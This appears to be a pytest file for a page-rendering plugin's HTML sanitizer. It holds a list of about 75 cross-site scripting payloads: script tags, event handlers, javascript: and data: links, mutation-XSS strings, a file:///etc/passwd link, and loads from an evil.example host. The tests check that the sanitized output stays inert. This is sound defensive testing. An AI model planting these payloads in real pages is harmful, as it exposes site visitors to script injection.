"""Promises about what a body may hold: a corpus of attacks, all the way from the file to the page's HTML."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.pages.body import Resolved, fill
from plugins.pages.sanitize import clean, has_odd_address, has_unsafe_scheme, violations
from tests.builders import make_article
from tests.plugins.rendering import body_of, codes, renderer

# Written down here again on purpose: what may stand in a page does not follow from what the code lets through.
_TAGS = (
    "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure "
    "h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table "
    "tbody td tfoot th thead time tr u ul var video audio"
)
_ATTRIBUTES = (
    "alt aria-label class colspan controls datetime dir headers height href id lang loading open preload rel reversed "
    "role rowspan scope span src start tabindex title type value width"
)
INERT, ATTRIBUTES = frozenset(_TAGS.split()), frozenset(_ATTRIBUTES.split())

ATTACKS = {
    "script element": "<script>alert(1)</script>",
    "script in a paragraph": "前<script>alert(1)</script>后",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script broken by a null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script with a blank": "<script >alert(1)</script >",
    "script never closed": "<script>alert(1)",
    "script inside a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script written with entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script in a code fence": "```\n<script>alert(1)</script>\n```",
    "script in a table cell": "|a|b|\n|-|-|\n|<script>alert(1)</script>|x|",
    "script in a heading": "## <script>alert(1)</script> 标题",
    "script in a list": "- <script>alert(1)</script>",
    "script in a footnote": "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "handler in a footnote's name": 'a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "script in an abbreviation": "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "abbreviation that breaks out": '*[HTML]: "onmouseover="alert(1)\n\nHTML',
    "script in a definition list": "词\n:   <script>alert(1)</script>",
    "inline frame": "<iframe src=https://evil.example></iframe>",
    "inline frame with srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=x.swf></object>",
    "embed": "<embed src=x.swf>",
    "form": "<form action=https://evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "style element": "<style>body{background:url(//evil.example)}</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "link element": "<link rel=stylesheet href=//evil.example/x.css>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": "<base href=https://evil.example/>",
    "inline SVG with a handler": "<svg onload=alert(1)><circle/></svg>",
    "inline SVG with a script": "<svg><script>alert(1)</script></svg>",
    "inline SVG that animates": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "MathML": '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    "noscript mutation": '<noscript><p title="</noscript><img src=a.png onerror=alert(1)>">',
    "namespace mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=a.png onerror=x()>'>",
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--<img src=--><img src=a.png onerror=alert(1)//>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?><script>alert(1)</script>",
    "handler on a picture": "<img src=a.png onerror=alert(1)>",
    "handler with a slash": "<img/src=a.png/onerror=alert(1)>",
    "handler with a line break": "<img src=a.png\nonerror\n=\nalert(1)>",
    "handler in capitals": "<div ONCLICK=alert(1)>x</div>",
    "handler on a video": "<video src=x.mp4 onerror=alert(1) onloadstart=alert(1)></video>",
    "handler on details": "<details open ontoggle=alert(1)>x</details>",
    "handler in an attribute list": "字\n{: onclick=alert(1) onmouseover=alert(2) }",
    "handler in a picture's attribute list": '![x](a.png){: onerror="alert(1)" style="x" }',
    "handler in a heading's attribute list": "## 标题 {: onclick=alert(1) }",
    "link address in an attribute list": "[x](b.md){: href=javascript:alert(1) }",
    "picture address in an attribute list": "![x](a.png){: src=javascript:alert(1) srcset=javascript:alert(1) }",
    "attribute list that breaks out": "字\n{: title='\"><script>alert(1)</script>' }",
    "link to javascript": "[x](javascript:alert(1))",
    "link to javascript in mixed case": "[x](jAvAsCrIpT:alert(1))",
    "link to javascript with a tab": "[x](java\tscript:alert(1))",
    "link to javascript with a line break": '<a href="java\nscript:alert(1)">x</a>',
    "link to javascript with leading blanks": '<a href=" \x01 javascript:alert(1)">x</a>',
    "link to javascript in entities": "[x](&#106;&#97;vascript&colon;alert(1))",
    "link to javascript in hexadecimal entities": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "link to javascript in angle brackets": "[x](<java script:alert(1)>)",
    "link to javascript as a reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "link to javascript as an autolink": "<javascript:alert(1)>",
    "link to vbscript": "[x](vbscript:msgbox(1))",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to a file of the machine": "[x](file:///etc/passwd)",
    "link without a scheme to another host": "[x](//evil.example/x)",
    "picture from javascript": "![x](javascript:alert(1))",
    "picture from data with SVG": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "picture from outside": "![x](https://evil.example/pixel.png)",
    "alternative text that breaks out": '![x" onerror="alert(1)](a.png)',
    "title that breaks out": '[x](b.md "y\\" onmouseover=\\"alert(1)")',
    "picture title that breaks out": '![x](a.png "y\\"><script>alert(1)</script>")',
    "form attribute on a link": "<a href=b.md ping=https://evil.example target=_blank download>x</a>",
    "poster from outside": "<video src=a.mp4 poster=https://evil.example/p.png></video>",
    "source from outside": "<video><source src=https://evil.example/a.mp4></video>",
    "our own mark": "&#xe000;gone&#xe000; [x](&#xe000;0&#xe000;) <img src='&#xe000;7&#xe000;'>",
}  # fmt: skip


# What the attacks point at is there, so that nothing is safe only because it is a dead link.
FILES = {
    "content/portal/news/2026/a.png": b"x",
    "content/portal/news/2026/x.mp4": b"x",
    "content/portal/news/2026/b.md": make_article(),
}


def assert_inert(html: str) -> None:
    """No element, attribute or address in `html` can do anything."""
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.name in INERT, tag
        assert set(tag.attrs) <= ATTRIBUTES, tag
        for name in ("href", "src"):
            address = str(tag.get(name, "/"))
            assert address.startswith(("/", "#", "https://", "http://", "mailto:", "tel:")), tag
            assert not address.startswith("//"), tag
        assert tag.name == "a" or str(tag.get("src", "/")).startswith("/"), tag


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_attack_leaves_anything_active_in_a_body(attack: str) -> None:
    text = f"一段话。\n\n{attack}\n\n又一段话。"
    for html in (body_of(text, FILES)[0], fill(renderer().render(text), lambda _target, _place: Resolved("/to/it"))):
        assert_inert(html)
        assert "\ue000" not in html


# An element that is never closed swallows the rest, as in any browser.
CLOSED = {name: attack for name, attack in ATTACKS.items() if name not in ("script never closed", "namespace mutation")}


@pytest.mark.parametrize("attack", CLOSED.values(), ids=CLOSED)
def test_the_words_around_an_attack_stay(attack: str) -> None:
    html, _ = body_of(f"一段话。\n\n{attack}\n\n又一段话。")
    assert "一段话。" in html
    assert "又一段话。" in html


@pytest.mark.parametrize(
    ("markup", "told"),
    [
        ("<script>x</script>", ["<script>"]),
        ("<p onclick=x>a</p><p onclick=y>b</p>", ["onclick"]),
        ("<p style='a'>x</p>", ["style"]),
        ("<a href='javascript:x'>a</a>", ["javascript:"]),
        ("<a href=' javascript:x'>a</a>", ["javascript:"]),
        ("<a href='http://[x'>a</a>", ["http://[x"]),
        ("<iframe></iframe><script></script>", ["<iframe>", "<script>"]),
        ("<a href='https://a.example/' title='t' id='i'>a</a>", []),
        ("<table align='left'><tr><td colspan='2'>x</td></tr></table>", []),
        ("<br/>", []),
        ("<![图](b.png)><script>", ["<script>"]),
        ("<![CDATA[ 字 ]]><b onclick=x>甲</b>", ["onclick"]),
        ("<![未完", []),
    ],
)
def test_what_was_removed_is_named_once_each(markup: str, told: list[str]) -> None:
    assert violations(markup) == told


@pytest.mark.parametrize(
    ("url", "unsafe"),
    [
        ("https://a.example/", False),
        ("HTTPS://a.example/", False),
        (" https://a.example/", False),
        ("mailto:a@b.example", False),
        ("tel:0999", False),
        ("news/x.md", False),
        ("a?b:c", False),
        ("#s:t", False),
        ("附件：一.pdf", False),
        ("第1章:总则.pdf", False),
        ("javascript:x", True),
        ("java\nscript:x", True),
        ("\x01javascript:x", True),
        ("data:x", True),
        ("ftp://a.example", True),
    ],
)
def test_only_schemes_that_readers_need_are_safe(url: str, unsafe: bool) -> None:
    assert has_unsafe_scheme(url) is unsafe


def test_plain_markup_passes_unchanged() -> None:
    markup = '<p class="x" id="y" lang="en">a <em>b</em> <ruby>云<rt>yún</rt></ruby><br><abbr title="t">T</abbr></p>'
    assert clean(markup) == markup


def test_removed_code_is_told_with_its_line_in_the_file() -> None:
    body = "谈谈 style 与 onclick 这两个词。\n\n<p onclick=x>一</p>\n\n<script>x</script>\n\n字\n{: style=x }\n"
    _, findings = body_of(body)
    told = {(issue.line, dict(issue.values)["what"]) for issue in findings.issues}
    assert told == {(9, "onclick"), (11, "<script>"), (14, "style")}
    assert codes(findings) == ["html-removed"]


def test_a_scheme_hidden_in_entities_is_told_with_its_line() -> None:
    _, findings = body_of("一\n\n二\n\n[x](&#106;avascript:alert(1))")
    assert [(issue.line, dict(issue.values)["what"]) for issue in findings.issues] == [(11, "javascript:")]


def test_the_same_mistake_made_thrice_is_told_once() -> None:
    _, findings = body_of("<iframe src=a></iframe>\n\n" * 3)
    assert [issue.line for issue in findings.issues] == [7]


@pytest.mark.parametrize(
    ("address", "odd"),
    [
        ("news/2026/river.md", False),
        ("#s-目标", False),
        ("/附件.pdf?x=1", False),
        ("", False),
        ("https://www.a-b.example", False),
        ("http://a.example/x?a=1&amp;b=2#c:d", False),
        ("javascript:x", True),
        ("附件：总则:一.pdf", True),
        ("mailto:a@a.example", True),
        ("java&#115;cript:x", True),
        ("http://[x", True),
        ("http://1.2.3.4.5/", True),
        ("http://xn--a.example/", True),
        ("http://a.example:80/", True),
        ("https://a.example /", True),
    ],
)
def test_only_an_odd_address_has_to_be_looked_at(address: str, odd: bool) -> None:
    assert has_odd_address(f'<p><a href="{address}">字</a></p>') is odd
    assert has_odd_address(f'<p><img alt="图" src="{address}"></p>') is odd


PIECES = "http https javascript mailto HTTP :// : // / a 1 0x xn-- - . @ % ? # [ ] \\ &amp; &#58; 云 example a.example https://a.example"
ADDRESSES = st.lists(st.sampled_from([*PIECES.split(), " "]), max_size=8).map("".join)


@settings(max_examples=300, deadline=None)
@given(ADDRESSES)
def test_an_address_that_is_not_odd_stays(address: str) -> None:
    markup = f'<a href="{address}">字</a>'
    assert has_odd_address(markup) or violations(markup) == []
